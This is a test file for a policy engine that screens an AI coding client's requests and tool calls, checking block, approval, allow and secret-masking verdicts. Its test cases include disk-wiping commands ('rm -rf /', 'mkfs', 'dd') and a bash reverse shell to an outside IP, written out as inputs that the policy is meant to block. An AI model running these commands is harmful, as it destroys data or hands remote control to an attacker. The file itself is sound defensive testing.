import { randomInt } from 'node:crypto';
import type { Phase, Principal } from '#contracts';
import { checkPattern, findingNames, Scanner } from '#detection';
import { compilePolicy, defaultPolicySource, evaluate } from '#policy-model';

const compiled = compilePolicy(defaultPolicySource, { checkPattern, knownKinds: findingNames });
if (!compiled.ok) throw new Error(JSON.stringify(compiled.problems));
const { policy } = compiled;
const scanner = new Scanner({ fingerprintKey: new Uint8Array(32), custom: policy.custom });
const principal: Principal = { issuer: 'https://issuer.test', subject: 'alice', name: 'Alice', email: null, groups: ['engineering'] };

/** What the shipped policy says of one text, with the detectors there are. */
function verdictOn(
  text: string,
  phase: Phase,
  { groups = ['engineering'], provenance = 'user' as const }: { groups?: string[] | null; provenance?: 'user' | 'tool_result' } = {},
) {
  const { findings, custom } = scanner.scan(text);
  const { verdict, reasons } = evaluate(policy, {
    phase,
    attributes: {
      principal: { ...principal, groups },
      client: { kind: 'claude-code', name: 'claude-cli', version: null },
      model: 'claude-opus',
      route: { model: 'claude-opus', path: '/v1/messages', stream: true },
      tools: ['Bash'],
      time: new Date(),
      sizes: { bytes: text.length, messages: 1 },
    },
    blocks: [
      {
        id: 'b',
        provenance,
        role: 'user',
        position: 'tail',
        kind: 'text',
        scannable: true,
        findings: findings.map((finding) => ({ ...finding, block: 'b' })),
        custom: custom.map(({ id }) => id),
      },
    ],
  });
  return [verdict, ...reasons.map(({ ruleId }) => ruleId)].join(' ');
}

describe('the shipped policy', () => {
  it.each([
    ['request', 'Please dump the customers table to a file', 'block no-customer-dump'],
    ['request', 'connect to the Production Database and fix the row', 'require-approval production-database'],
    ['request', 'look at prod-db for me', 'require-approval production-database'],
    ['request', 'then run terraform destroy', 'require-approval infrastructure-deletion'],
    ['request', 'write a poem about doors', 'allow'],
    ['request', 'what does the product database of our shop sell', 'allow'],
    ['tool_call', 'psql -h prod-db.internal -c "select 1"', 'require-approval production-database'],
    ['tool_call', 'kubectl delete namespace payments', 'require-approval infrastructure-deletion'],
    ['tool_call', 'rm -rf /', 'block no-destruction'],
    ['tool_call', 'sudo rm -rf /*', 'block no-destruction'],
    ['tool_call', 'rm -rf --no-preserve-root /', 'block no-destruction'],
    ['tool_call', 'rm -rf /tmp/build', 'allow'],
    ['tool_call', 'rm -rf ./dist', 'allow'],
    ['tool_call', 'mkfs.ext4 /dev/sda1', 'block no-destruction'],
    ['tool_call', 'dd if=/dev/zero of=/dev/sda', 'block no-destruction'],
    ['tool_call', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'block no-reverse-shell'],
  ] as const)('says of a %s "%s": %s', (phase, text, expected) => {
    expect(verdictOn(text, phase)).toBe(expected);
  });

  it('lets operators work, asks callers of unknown groups, and lets files that mention it be read', () => {
    const text = 'look at prod-db for me';
    expect(verdictOn(text, 'request', { groups: ['operators'] })).toBe('allow');
    expect(verdictOn(text, 'request', { groups: null })).toBe('require-approval production-database');
    expect(verdictOn(text, 'request', { provenance: 'tool_result' })).toBe('allow');
  });

  it('masks secrets both ways', () => {
    const letters = 'abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789';
    const token = `ghp_${Array.from({ length: 36 }, () => letters[randomInt(letters.length)]).join('')}`;
    for (const phase of ['request', 'reply'] as const) expect(verdictOn(`my key is ${token}.`, phase)).toBe('mask secrets-stay-here');
  });
});
